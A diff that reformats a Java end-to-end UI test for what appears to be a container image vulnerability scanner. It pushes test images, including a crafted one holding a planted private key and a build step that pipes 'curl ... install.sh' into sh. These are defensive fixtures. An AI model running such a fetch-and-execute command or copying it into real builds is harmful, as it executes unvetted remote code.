@@ -66,8 +66,7 @@ class UiE2E {
     Skopeo.push(unpacked("alpine-310"), host + "/library/alpine:3.10");
     Skopeo.push(unpacked("alpine-311"), host + "/library/alpine:3.11");
     Skopeo.push(OlderPackages.read("alpine-310-old").image(work), host + "/team/billing:2.3");
-    byte[] key =
-        HostileImages.alpineFiles().file("srv/app/deploy.pem", privateKey()).bytes();
+    byte[] key = HostileImages.alpineFiles().file("srv/app/deploy.pem", privateKey()).bytes();
     CraftedImage.of(CraftedImage.Layer.plain(key))
         .madeBy("/bin/sh -c curl -s https://example.com/install.sh | sh")
         .push(registry, "team/shop", "1.0");
@@ -82,7 +81,10 @@ class UiE2E {
     server = RunningServer.start(work, 0, null, options, Map.of("MDIS_REPORT_COUNT_EVERY", "1S"));
     for (String name :
         List.of(
-            "library/alpine:3.10", "library/alpine:3.11", "team/billing:2.3", "team/shop:1.0",
+            "library/alpine:3.10",
+            "library/alpine:3.11",
+            "team/billing:2.3",
+            "team/shop:1.0",
             "team/missing:1")) {
       server.send("POST", "/images", "{\"reference\":\"" + host + "/" + name + "\"}");
     }
@@ -187,7 +189,8 @@ class UiE2E {
   void anImageTellsWhatToFixFirstAndWhoElseHasIt() throws IOException {
     try (BrowserPage page = open("/ui/images/" + old)) {
       assertThat(text(page, ".fixes")).contains("Upgrade openssl 1.1.1b-r1 to 1.1.1");
-      page.leave("[...document.querySelectorAll('a')].find(a => a.innerText == 'CVE-2019-1563').click()");
+      page.leave(
+          "[...document.querySelectorAll('a')].find(a => a.innerText == 'CVE-2019-1563').click()");
       assertThat(text(page, "main")).contains("team/billing", "libcrypto1.1");
     }
   }
@@ -251,8 +254,7 @@ class UiE2E {
 
   private static void show(BrowserPage page, Look look) throws IOException {
     page.headers(
-        Map.of(
-            "Authorization", "Bearer " + server.token(), "Accept-Language", look.language()));
+        Map.of("Authorization", "Bearer " + server.token(), "Accept-Language", look.language()));
     page.screen(look.width(), look.height(), look.phone());
     page.dark(look.dark());
   }
